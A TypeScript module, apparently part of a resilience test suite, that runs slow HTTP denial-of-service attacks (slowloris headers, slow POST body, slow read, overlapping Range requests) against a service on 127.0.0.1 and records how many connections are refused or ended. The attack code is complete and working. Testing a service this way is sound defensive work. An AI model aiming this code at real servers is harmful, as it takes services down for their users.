// A slow attack, as a part of a row: as many connections as it can get, each of which costs the service something and
// the attacker next to nothing. The four kinds are those of slowhttptest, from as many addresses as wanted. A
// connection that is ended is opened again.

import { connect, type Socket } from 'node:net';
import { runPart } from './part.ts';

export type AttackKind = 'headers' | 'body' | 'read' | 'range';

export interface AttackOptions {
  readonly kind: AttackKind;
  readonly port: number;
  /** At a time. */
  readonly connections: number;
  /** Connections take these in turn. */
  readonly addresses: readonly string[];
  /** Of a large content. */
  readonly path: string;
}

export interface Attacked {
  readonly opened: number;
  /** Connections that were refused at once, because there were too many. */
  readonly refused: number;
  /** Connections that the service ended later. */
  readonly ended: number;
  /** The longest time that a connection lasted. */
  readonly longestMs: number;
}

/** A byte or a line now and then keeps a connection from looking idle. */
const TRICKLE_MS = 1000;
const OPENED_PER_TICK = 20;
const TICK_MS = 20;
const RANGES = Array.from({ length: 1200 }, (_, index) => `5-${index}`).join(',');

const STARTS: Readonly<Record<AttackKind, (path: string) => string>> = {
  headers: () => 'GET / HTTP/1.1\r\nHost: paste.example\r\n',
  body: () => 'POST / HTTP/1.1\r\nHost: paste.example\r\nContent-Length: 100000\r\n\r\n',
  read: (path) => `GET ${path} HTTP/1.1\r\nHost: paste.example\r\n\r\n`.repeat(3),
  range: (path) => `HEAD ${path} HTTP/1.1\r\nHost: paste.example\r\nRange: bytes=0-,${RANGES}\r\n\r\n`,
};

const TRICKLES: Readonly<Record<AttackKind, (path: string) => string>> = {
  headers: () => 'X-A: b\r\n',
  body: () => 'a',
  // Empty lines between requests mean nothing (RFC 9112 section 2.2), but a write shows that a connection is gone.
  read: () => '\r\n',
  range: STARTS.range,
};

async function attack(options: AttackOptions, over: Promise<void>): Promise<Attacked> {
  const { kind, port, connections, addresses, path } = options;
  const open = new Map<Socket, number>();
  let opened = 0;
  let refused = 0;
  let ended = 0;
  let longestMs = 0;

  function openOne(): void {
    const localAddress = addresses[opened % addresses.length] ?? '127.0.0.1';
    opened += 1;
    const socket = connect({ port, host: '127.0.0.1', localAddress });
    open.set(socket, performance.now());
    let isRefused = false;
    socket.write(STARTS[kind](path));
    socket.on('data', (bytes) => {
      // A slow reader takes this one piece, and the next one when `reading` resumes it.
      if (kind === 'read') socket.pause();
      isRefused ||= bytes.toString('latin1', 0, 12) === 'HTTP/1.1 503';
    });
    socket.on('error', () => {});
    socket.on('close', () => {
      note(socket);
      if (isRefused) refused += 1;
      else ended += 1;
      open.delete(socket);
    });
    if (kind === 'read') socket.pause();
  }

  function note(socket: Socket): void {
    longestMs = Math.max(longestMs, performance.now() - (open.get(socket) ?? 0));
  }

  const opening = setInterval(() => {
    for (let index = 0; index < OPENED_PER_TICK && open.size < connections; index += 1) openOne();
  }, TICK_MS);
  const trickling = setInterval(() => {
    for (const socket of open.keys()) socket.write(TRICKLES[kind](path));
  }, TRICKLE_MS);
  // A piece in 20 seconds is below any minimum rate.
  const reading = setInterval(() => {
    if (kind === 'read') for (const socket of open.keys()) socket.resume();
  }, 20 * TRICKLE_MS);
  await over;
  for (const timer of [opening, trickling, reading]) clearInterval(timer);
  for (const socket of open.keys()) note(socket);
  return { opened, refused, ended, longestMs: Math.round(longestMs) };
}

await runPart(attack);
